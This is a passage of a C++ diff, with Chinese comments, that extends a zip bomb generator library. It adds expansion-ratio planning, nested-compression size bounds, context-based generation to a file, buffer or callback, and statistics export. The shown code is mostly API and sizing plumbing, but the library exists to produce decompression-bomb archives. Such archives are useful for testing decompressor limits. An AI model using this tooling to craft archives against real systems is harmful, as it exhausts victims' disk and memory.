+    plan->zip64 = layout.entry_zip64() || layout.zip64_end_records();
+    plan->total_uncompressed_size = static_cast<int64_t>(layout.num_entries() * layout.entry_uncompressed_size());
+    plan->central_dir_offset = static_cast<int64_t>(layout.central_dir_offset());
+    plan->central_dir_size = static_cast<int64_t>(layout.central_dir_size());
+    plan->total_size = static_cast<int64_t>(layout.total_size());
+    plan->expansion_ratio = static_cast<double>(plan->total_uncompressed_size) /
+                            static_cast<double>(plan->total_size);
+    plan->data_descriptors = config->use_data_descriptor;
+    return ZIPBOMB_SUCCESS;
+}
+
+int zipbomb_plan_bound(const zipbomb_config_t* config, int64_t* max_size) {
+    if (!config || !max_size || ZipBombGenerator::check_config(*config)) {
+        return ZIPBOMB_ERROR_INVALID_PARAM;
+    }
+
+    uint64_t num_files;
+    uint64_t entry_size;
+    ZipBombGenerator::plan_entries(*config, num_files, entry_size);
+
+    // 只有一份常量内容时压缩后大小可以直接算出，其余按DEFLATE的最坏情况
+    const bool constant = config->pattern_kind == ZIPBOMB_PATTERN_CONSTANT &&
+                          ZipBombGenerator::payload_variants(*config, num_files) == 1;
+    const uint64_t compressed_size =
+        constant ? ZipBombGenerator::deflate_constant_run_size(static_cast<uint8_t>(config->pattern_char), entry_size)
+                 : ZipBombGenerator::deflate_bound(entry_size);
+    uint64_t size = ZipBombGenerator::ArchiveLayout(num_files, entry_size, compressed_size,
+                                                    config->use_data_descriptor).total_size();
+
+    const int wrap_levels = config->use_nested_compression ? config->nested_levels - 1 : 0;
+    for (int level = 0; level < wrap_levels; level++) {
+        size = ZipBombGenerator::deflate_bound(size) + ZipBombGenerator::NESTED_LEVEL_OVERHEAD;
+    }
+
+    *max_size = static_cast<int64_t>(std::min<uint64_t>(size, INT64_MAX));
+    return ZIPBOMB_SUCCESS;
+}
+
+int64_t zipbomb_plan_entry_offset(const zipbomb_plan_t* plan, int64_t index) {
+    if (!plan || index < 0 || index > plan->num_entries || plan->distinct_payloads != 1) return -1;
+    const ZipBombGenerator::ArchiveLayout layout(
+        static_cast<uint64_t>(plan->num_entries),
+        static_cast<uint64_t>(plan->entry_uncompressed_size),
+        static_cast<uint64_t>(plan->entry_compressed_size),
+        plan->data_descriptors);
+    return static_cast<int64_t>(layout.entry_offset(static_cast<uint64_t>(index)));
 }
 
 void cleanup_resources(void) {
-    ZipBombGenerator::log_message("清理资源完成");
+    ZipBombGenerator::log_message(ZipBombGenerator::g_default_context, "清理资源完成");
 }
 
 void set_verbose_logging(int enable) {
-    ZipBombGenerator::g_verbose_logging = (enable != 0);
+    ZipBombGenerator::g_default_context.verbose = (enable != 0);
 }
 
 void debug_log(const char* message) {
-    if (message && ZipBombGenerator::g_verbose_logging) {
+    if (message && ZipBombGenerator::g_default_context.verbose) {
         std::cout << "[调试] " << message << std::endl;
     }
 }
@@ -425,19 +1379,127 @@ void error_log(int error_code, const char* message) {
 }
 
 double get_compression_ratio(void) {
-    return ZipBombGenerator::g_compression_ratio;
+    return ZipBombGenerator::g_default_context.compression_ratio;
 }
 
 double get_processing_time(void) {
-    auto duration = std::chrono::duration_cast<std::chrono::milliseconds>(ZipBombGenerator::g_end_time - ZipBombGenerator::g_start_time);
-    return duration.count() / 1000.0;
+    const ZipBombGenerator::GenerationContext& ctx = ZipBombGenerator::g_default_context;
+    return std::chrono::duration<double>(ctx.end_time - ctx.start_time).count();
+}
+
+void get_io_stats(zipbomb_io_stats_t* stats) {
+    if (stats) *stats = ZipBombGenerator::g_default_context.io_stats;
+}
+
+void get_performance_stats(zipbomb_stats_t* stats) {
+    if (stats) ZipBombGenerator::collect_stats(ZipBombGenerator::g_default_context, *stats);
+}
+
+int export_performance_stats(const char* filename, int format) {
+    zipbomb_stats_t stats;
+    get_performance_stats(&stats);
+    return zipbomb_stats_export(&stats, filename, format);
 }
 
 void print_performance_stats(void) {
+    zipbomb_stats_t stats;
+    get_performance_stats(&stats);
+    const zipbomb_io_stats_t& io = stats.io;
+
+    const std::ios_base::fmtflags flags = std::cout.flags();
+    const std::streamsize precision = std::cout.precision();
     std::cout << "=== 性能统计 ===" << std::endl;
-    std::cout << "处理时间: " << get_processing_time() << " 秒" << std::endl;
-    std::cout << "压缩比: " << std::fixed << std::setprecision(2)
-              << get_compression_ratio() * 100.0 << "%" << std::endl;
+    std::cout << std::fixed << std::setprecision(6)
+              << "处理时间: " << stats.processing_time << " 秒 (" << stats.wall_time_ns << " 纳秒)" << std::endl;
+    std::cout << std::setprecision(2)
+              << "压缩比: " << stats.compression_ratio * 100.0 << "%" << std::endl;
+    std::cout << "输出后端: " << io.backend << (io.direct_io ? " (O_DIRECT)" : "")
+              << ", 写请求: " << io.writes_submitted
+              << ", 最大队列深度: " << io.max_queue_depth
+              << ", 等待I/O: " << io.stall_ns / 1000000.0 << " 毫秒" << std::endl;
+    std::cout << "缓冲区内存峰值: " << stats.peak_buffer_bytes << " 字节" << std::endl;
+    for (int i = 0; i < ZIPBOMB_PHASE_COUNT; i++) {
+        const zipbomb_phase_stats_t& phase = stats.phases[i];
+        std::cout << "  " << std::left << std::setw(18) << ZipBombGenerator::phase_name(i) << std::right
+                  << std::setprecision(3) << phase.time_ns / 1e6 << " 毫秒"
+                  << ", 输入 " << phase.bytes_in << " 字节 (" << phase.mb_in_per_sec << " MB/s)"
+                  << ", 输出 " << phase.bytes_out << " 字节 (" << phase.mb_out_per_sec << " MB/s)"
+                  << ", 调用 " << phase.calls << std::endl;
+    }
+    std::cout.flags(flags);
+    std::cout.precision(precision);
+}
+
+// ============================================================================
+// 上下文接口
+// ============================================================================
+
+zipbomb_ctx_t* zipbomb_ctx_create(void) {
+    try {
+        return new zipbomb_ctx(ZipBombGenerator::DEFAULT_CONFIG);
+    } catch (const std::bad_alloc&) {
+        return nullptr;
+    }
+}
+
+void zipbomb_ctx_destroy(zipbomb_ctx_t* ctx) {
+    delete ctx;
+}
+
+int zipbomb_ctx_configure(zipbomb_ctx_t* ctx, const zipbomb_config_t* config) {
+    if (!ctx || !config || ZipBombGenerator::check_config(*config)) return ZIPBOMB_ERROR_INVALID_PARAM;
+    ctx->state.config = *config;
+    return ZIPBOMB_SUCCESS;
+}
+
+int zipbomb_ctx_get_config(const zipbomb_ctx_t* ctx, zipbomb_config_t* config) {
+    if (!ctx || !config) return ZIPBOMB_ERROR_INVALID_PARAM;
+    *config = ctx->state.config;
+    return ZIPBOMB_SUCCESS;
+}
+
+void zipbomb_ctx_set_verbose(zipbomb_ctx_t* ctx, int enable) {
+    if (ctx) ctx->state.verbose = (enable != 0);
+}
+
+int zipbomb_ctx_generate(zipbomb_ctx_t* ctx, const char* filename) {
+    if (!ctx || !filename) return ZIPBOMB_ERROR_INVALID_PARAM;
+    return ZipBombGenerator::guard_allocation([&] {
+        return ZipBombGenerator::create_zipbomb_internal(ctx->state, filename, ctx->state.config);
+    });
+}
+
+int zipbomb_ctx_generate_to_buffer(zipbomb_ctx_t* ctx, zipbomb_buffer_t* buffer) {
+    if (!ctx || !buffer) return ZIPBOMB_ERROR_INVALID_PARAM;
+    return ZipBombGenerator::guard_allocation([&] {
+        return ZipBombGenerator::create_zipbomb_to_buffer_internal(ctx->state, ctx->state.config, *buffer);
+    });
+}
+
+int zipbomb_ctx_generate_to_callback(zipbomb_ctx_t* ctx, zipbomb_write_callback_t callback, void* user_data) {
+    if (!ctx || !callback) return ZIPBOMB_ERROR_INVALID_PARAM;
+    return ZipBombGenerator::guard_allocation([&] {
+        return ZipBombGenerator::create_zipbomb_to_callback_internal(ctx->state, ctx->state.config,
+                                                                     callback, user_data);
+    });
+}
+
+int zipbomb_ctx_get_stats(const zipbomb_ctx_t* ctx, zipbomb_stats_t* stats) {
+    if (!ctx || !stats) return ZIPBOMB_ERROR_INVALID_PARAM;
+    ZipBombGenerator::collect_stats(ctx->state, *stats);
+    return ZIPBOMB_SUCCESS;
+}
+
+int zipbomb_ctx_export_stats(const zipbomb_ctx_t* ctx, const char* filename, int format) {
+    zipbomb_stats_t stats;
+    const int result = zipbomb_ctx_get_stats(ctx, &stats);
+    if (result != ZIPBOMB_SUCCESS) return result;
+    return zipbomb_stats_export(&stats, filename, format);
+}
+
+int zipbomb_stats_export(const zipbomb_stats_t* stats, const char* filename, int format) {
+    if (!stats || !filename || filename[0] == '\0') return ZIPBOMB_ERROR_INVALID_PARAM;
+    return ZipBombGenerator::export_stats(*stats, filename, format);
 }
 
 } // extern "C"